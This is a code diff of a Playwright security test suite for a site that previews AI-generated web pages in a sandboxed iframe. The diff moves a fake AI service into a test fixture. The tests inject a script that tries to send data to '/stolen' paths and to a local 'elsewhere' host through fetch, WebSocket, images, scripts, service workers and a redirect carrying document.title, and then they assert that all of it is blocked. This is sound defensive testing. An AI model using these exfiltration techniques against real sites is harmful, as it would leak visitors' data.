@@ -1,18 +1,16 @@
 import type { Page } from 'playwright/test';
-import { AI_TEST_KEY, type FakeAiService, startAiService } from '../server/testing/ai-service.ts';
+import type { FakeAiService } from '../server/testing/ai-service.ts';
+import { test } from './support/ai-service.ts';
 import { ready } from './support/ready.ts';
-import { test as base, expect } from './support/test.ts';
+import { expect } from './support/test.ts';
 
-const PORT = 42_118;
-const ELSEWHERE = `http://127.0.0.1:${PORT}`;
-// The page tries what it must not, and the browser prints each refusal.
-const test = base.extend({ guard: async ({ baseURL: _ }, use) => use(undefined) });
-test.use({ settings: { AI_BASE_URL: `${ELSEWHERE}/v1`, AI_API_KEY: AI_TEST_KEY } });
-// One after the other: the service has one port.
+// One after the other, so that they share a server.
 test.describe.configure({ mode: 'default' });
 
 /** Tries, one after the other, all that a page could want of the site and of the visitor, and writes down what became of it. */
-const ATTEMPTS = `const kept = (value) => { if (value === null || value === undefined) throw new Error('nothing'); };
+const attempts = (
+  elsewhere: string,
+) => `const kept = (value) => { if (value === null || value === undefined) throw new Error('nothing'); };
 const event = (make, good, bad) => new Promise((resolve, reject) => {
   const thing = make();
   thing['on' + good] = resolve;
@@ -33,12 +31,12 @@ const attempts = {
   'service worker': () => navigator.serviceWorker.register('/stolen.js'),
   'a popup': () => kept(window.open('/stolen?popup')),
   fetch: () => fetch('/stolen?fetch'),
-  'fetch elsewhere': () => fetch('${ELSEWHERE}/stolen', { mode: 'no-cors' }),
+  'fetch elsewhere': () => fetch('${elsewhere}/stolen', { mode: 'no-cors' }),
   XMLHttpRequest: () => event(() => { const x = new XMLHttpRequest(); x.open('GET', '/stolen?xhr'); x.send(); return x; }, 'load', 'error'),
-  WebSocket: () => event(() => new WebSocket('ws://127.0.0.1:${PORT}/stolen'), 'open', 'error'),
+  WebSocket: () => event(() => new WebSocket('${elsewhere.replace('http', 'ws')}/stolen'), 'open', 'error'),
   EventSource: () => event(() => new EventSource('/stolen?events'), 'open', 'error'),
   'a picture': () => element('img', { src: '/favicon.svg?stolen' }),
-  'a picture elsewhere': () => element('img', { src: '${ELSEWHERE}/stolen.png' }),
+  'a picture elsewhere': () => element('img', { src: '${elsewhere}/stolen.png' }),
   'a script': () => element('script', { src: '/stolen.js' }),
   'a style sheet': () => element('link', { rel: 'stylesheet', href: '/stolen.css' }),
   eval: () => new Function('return 1')(),
@@ -86,15 +84,10 @@ ${script}
 `;
 const FRAME = 'iframe[title="Preview of your page"]';
 
-let service: FakeAiService;
-test.beforeAll(async () => {
-  service = await startAiService(PORT);
-});
-test.afterAll(() => service.close());
-
 test('a page that tries everything reaches nothing, in the preview and in a tab of its own', async ({
   page,
   login,
+  service,
 }) => {
   // So that there is something to steal.
   await login(page);
@@ -102,7 +95,7 @@ test('a page that tries everything reaches nothing, in the preview and in a tab 
   page.context().on('response', (response) => {
     if (response.url().includes('stolen')) arrived.push(response.url());
   });
-  await generate(page, ATTEMPTS);
+  await generate(page, service, attempts(originOf(service)));
   const frame = page.frameLocator(FRAME);
   await expect(frame.getByText('All tried')).toBeVisible();
   const inFrame = await frame.getByRole('listitem').allTextContents();
@@ -128,9 +121,10 @@ test('a page that tries everything reaches nothing, in the preview and in a tab 
 test('the network is reached when it is switched on, and still nothing of the site', async ({
   page,
   login,
+  service,
 }) => {
   await login(page);
-  await generate(page, ATTEMPTS);
+  await generate(page, service, attempts(originOf(service)));
   const frame = page.frameLocator(FRAME);
   await expect(frame.getByText('All tried')).toBeVisible();
   await page.getByRole('switch', { name: 'Network' }).click();
@@ -165,18 +159,21 @@ test('the network is reached when it is switched on, and still nothing of the si
   expect(new URL(page.url()).pathname).toBe('/ai-temp-build');
 });
 
-test('a page that leads itself to another host does not get there', async ({ page }) => {
+test('a page that leads itself to another host does not get there', async ({ page, service }) => {
+  const elsewhere = originOf(service);
   const arrived: string[] = [];
   page.context().on('response', (response) => {
-    if (response.url().startsWith(`${ELSEWHERE}/stolen`)) arrived.push(response.url());
+    if (response.url().startsWith(`${elsewhere}/stolen`)) arrived.push(response.url());
   });
-  await generate(page, `location.href = '${ELSEWHERE}/stolen?' + document.title;`);
+  await generate(page, service, `location.href = '${elsewhere}/stolen?' + document.title;`);
   // The browser shows its own page about the refusal in place of the page.
   await expect(page.frameLocator(FRAME).getByRole('heading', { name: 'Tries' })).toBeHidden();
   expect(arrived).toEqual([]);
 });
 
-async function generate(page: Page, script: string): Promise<void> {
+const originOf = (service: FakeAiService) => new URL(service.url).origin;
+
+async function generate(page: Page, service: FakeAiService, script: string): Promise<void> {
   service.answer({ reply: reply(script) });
   await page.goto('/ai-temp-build');
   const prompt = page.getByLabel('Describe your website');
